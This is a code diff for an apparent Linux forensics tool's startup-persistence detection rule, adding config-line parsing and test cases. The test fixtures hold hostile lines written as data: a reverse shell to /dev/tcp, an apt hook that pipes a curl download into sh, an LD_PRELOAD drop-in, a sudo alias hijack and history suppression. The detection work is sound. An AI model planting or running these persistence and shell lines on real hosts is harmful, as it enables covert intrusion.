@@ -803,21 +803,35 @@ Innocent: Raspberry Pi OS (low); agents that monitor applications.`,
 	},
 }
 
+// startupChecker looks at the lines of what runs by itself: those of
+// configuration, and those of other scripts, whose text was read.
 type startupChecker struct {
 	env    *rules.Env
 	groups rules.Groups
+	lines  *confChecker
+	read   map[string]bool // files whose lines came one by one
+}
+
+func startupClass(path string) *pathClass {
+	for i := range startupFiles {
+		if startupFiles[i].match(path) {
+			return &startupFiles[i]
+		}
+	}
+	return nil
 }
 
 func (c *startupChecker) Record(r *timeline.Record) {
-	path := r.Fields["path"]
-	class := -1
-	for i := range startupFiles {
-		if startupFiles[i].match(path) {
-			class = i
-			break
+	if r.Kind != timeline.KindStrings {
+		c.lines.Record(r)
+		if p := r.Evidence.Path; r.Kind == timeline.KindSetting && !c.read[p] && len(c.read) < maxConfFiles {
+			c.read[strings.Clone(p)] = true
 		}
+		return
 	}
-	if class < 0 {
+	path := r.Fields["path"]
+	class := startupClass(path)
+	if class == nil {
 		return
 	}
 	unit := strings.Contains(path, "/systemd/")
@@ -828,31 +842,25 @@ func (c *startupChecker) Record(r *timeline.Record) {
 		line = strings.TrimSpace(withoutOffset(line))
 		if unit {
 			k, v, ok := strings.Cut(line, "=")
-			if !ok || !strings.HasPrefix(k, "Exec") && k != "Environment" {
-				continue
-			}
-			line = strings.TrimLeft(strings.TrimSpace(v), "@-:+!")
-			if k == "Environment" {
-				line = strings.Trim(line, `"'`) + " true"
-			}
-		}
-		for _, a := range judge(line, "") {
-			switch a.deed {
-			case downloadsAndRuns, runsTemporary:
-				a.severity = max(a.severity, rules.High)
-			case decodesAndRuns, reverseShell, mines, addsRoot, addsRights, preloads, spawnsTerminal, loadsModule, hidesHistory:
+			switch {
+			case ok && strings.HasPrefix(k, "Exec"):
+				line = strings.TrimLeft(strings.TrimSpace(v), "@-:+!|")
+			case ok && k == "Environment":
+				line = "export " + v
 			default:
 				continue
 			}
-			if a.severity < rules.Medium {
-				continue
+		}
+		for _, h := range c.lines.runLine(line) {
+			if h.unknown != "" {
+				continue // the lines of configuration tell it
 			}
 			g := c.groups.Get(path)
-			if a.severity > g.Severity() || g.Count == 0 {
-				g.Summary = showPath(path) + " (" + startupFiles[class].name + ") has the line " + show(line) + ": " + a.why
+			if h.severity > g.Severity() || g.Count == 0 {
+				g.Summary = showPath(path) + " (" + class.name + ") has the line " + show(line) + ": " + h.why
 			}
-			g.Raise(a.severity)
-			g.Techniques = startupFiles[class].techniques
+			g.Raise(h.severity)
+			g.Techniques = class.techniques
 			if g.Count == 0 {
 				t, note := when(r)
 				if r.File != nil {
@@ -863,18 +871,19 @@ func (c *startupChecker) Record(r *timeline.Record) {
 				g.AddPath(path)
 			}
 		}
-		if h := hiddenProgram(line); h != "" && !strings.HasPrefix(h, "/home/") && !strings.HasPrefix(h, "/root/") {
-			g := c.groups.Get(path)
-			if g.Count == 0 {
-				g.Summary = showPath(path) + " (" + startupFiles[class].name + ") runs the hidden program " + showPath(h)
-				g.Techniques = startupFiles[class].techniques
-				t, note := when(r)
-				g.Add(r.Evidence, t, note)
-				g.AddPath(path)
-			}
-			g.Raise(rules.High)
+	}
+}
+
+func (c *startupChecker) Notes() []string { return c.lines.Notes() }
+
+func (c *startupChecker) Findings() []rules.Finding {
+	out := c.lines.Findings()
+	for _, f := range c.groups.Findings(nil) {
+		if len(f.Paths) == 0 || !c.read[f.Paths[0]] {
+			out = append(out, f)
 		}
 	}
+	return out
 }
 
 // withoutOffset removes the place of a string, "0x1f40 ", from before it.
@@ -890,8 +899,6 @@ func withoutOffset(line string) string {
 	return text
 }
 
-func (c *startupChecker) Findings() []rules.Finding { return c.groups.Findings(nil) }
-
 var startupSuspicious = &rules.Rule{
 	ID:    "startup-suspicious",
 	Title: "A file that is run by itself starts something that no administrator would",
@@ -900,14 +907,35 @@ download and run, decode and run, open a shell to the network, mine, preload a l
 Innocent: none that is usual.`,
 	Severity:   rules.High,
 	Techniques: []string{"T1543.002", "T1037.004", "T1546.004"},
-	Kinds:      []string{timeline.KindStrings},
-	New:        func(env *rules.Env) rules.Checker { return &startupChecker{env: env} },
+	Kinds:      append([]string{timeline.KindStrings}, confKinds...),
+	New: func(env *rules.Env) rules.Checker {
+		lines := confRule(startupLine, "autostart", "shell", "scheduler", "package", "kernel")(env)
+		return &startupChecker{env: env, lines: lines.(*confChecker), read: map[string]bool{}}
+	},
 	True: []rules.Example{
+		{Name: "drop-in that preloads", Severity: rules.High, Env: withPackages, Records: []timeline.Record{aFile("/usr/lib/x86_64-linux-gnu/libnss_c.so.2", magic("elf")),
+			keyed("autostart", "/etc/systemd/system/ssh.service.d/override.conf", "Environment", "LD_PRELOAD=/lib/x86_64-linux-gnu/libnss_c.so.2")}},
+		{Name: "module at boot", Severity: rules.High, Env: withPackages, Records: []timeline.Record{aFile("/usr/lib/modules/6.1.0/extra/net_dbg.ko", magic("elf")), aSetting("kernel", "/etc/modules-load.d/x.conf", "net-dbg")}},
+		one("group before a shell", rules.High, aSetting("package", "/etc/apt/apt.conf.d/99x", `APT::Update::Post-Invoke {"(curl -s http://203.0.113.66/a || true) | sh";};`)),
+		one("hidden in a usual place", rules.High, aSetting("autostart", "/srv/www/shop/.git/hooks/post-merge", "/usr/lib/.cache/dbusd &")),
+		one("alias of sudo", rules.High, aSetting("shell", "/home/alice/.bashrc", "alias sudo='/home/alice/.local/share/.s/sudo'")),
+		one("no history", rules.High, aSetting("shell", "/home/alice/.bashrc", "unset HISTFILE")),
+		one("path file of Python", rules.High, aSetting("autostart", "/usr/lib/python3/dist-packages/x.pth", `import os;os.system("/usr/lib/.cache/dbusd &")`)),
+		one("boot script", rules.High, aSetting("autostart", "/etc/rc.local", "/usr/bin/setsid /usr/lib/.cache/dbusd &")),
+		one("rule of udev", rules.High, aSetting("kernel", "/etc/udev/rules.d/99-x.rules", `ACTION=="add", SUBSYSTEM=="net", RUN+="/dev/shm/.u"`)),
+		one("module's installation", rules.High, aSetting("kernel", "/etc/modprobe.d/x.conf", "install snd /tmp/.m/load.sh")),
 		one("unit", rules.High, someStrings("/etc/systemd/system/upd.service", "[Service]\nExecStart=-/var/tmp/.x/upd --daemon\nRestart=always", magic("text"))),
 		one("profile", rules.Critical, someStrings("/etc/profile.d/x.sh", "nohup bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &", magic("text"))),
 		one("hidden", rules.High, someStrings("/etc/rc.local", "0x0 #!/bin/sh\n0xa /usr/lib/.k/start &\n0x1d exit 0", magic("script"))),
 	},
 	False: []rules.Example{
+		withEnv(withPackages, quiet("package's own", aFile("/etc/profile.d/x.sh", packaged), aSetting("shell", "/etc/profile.d/x.sh", "unset HISTFILE"))),
+		withEnv(withBaseline, quiet("known", aSetting("shell", "/root/.bashrc", "unset HISTFILE"))),
+		quiet("aliases", aSetting("shell", "/home/alice/.bashrc", "alias sudo='sudo '"), aSetting("shell", "/home/alice/.bashrc", "alias ssh='TERM=xterm ssh'"), aSetting("shell", "/home/alice/.bashrc", `PATH="$HOME/bin:$PATH"`)),
+		quiet("path files", aSetting("autostart", "/usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();")),
+		quiet("ordinary settings", keyed("autostart", "/etc/systemd/system/app.service", "ExecStart", "/usr/bin/app --dir /tmp"), keyed("autostart", "/etc/systemd/system/app.service", "Description", "Runs /tmp/x at boot"),
+			aSetting("package", "/etc/apt/apt.conf.d/50x", `DPkg::Post-Invoke {"if [ -x /usr/bin/x ]; then /usr/bin/x; fi";};`), aSetting("kernel", "/etc/modprobe.d/b.conf", "install usb-storage /bin/true"),
+			aSetting("shell", "/root/.bashrc", "alias ls='ls --color=auto'"), aSetting("shell", "/etc/profile", "export HISTSIZE=5000"), aSetting("network", "/etc/hosts", "192.0.2.1 /tmp/x")),
 		quiet("unit", someStrings("/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/bin/app --tmp /tmp/app\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", magic("text"))),
 		quiet("profile", someStrings("/etc/profile.d/bash_completion.sh", "if [ -x /usr/bin/x ]; then . /usr/share/bash-completion/bash_completion; fi", magic("text"))),
 		quiet("elsewhere", someStrings("/usr/share/doc/x/example.sh", "curl http://198.51.100.7/x | sh", magic("text"))),
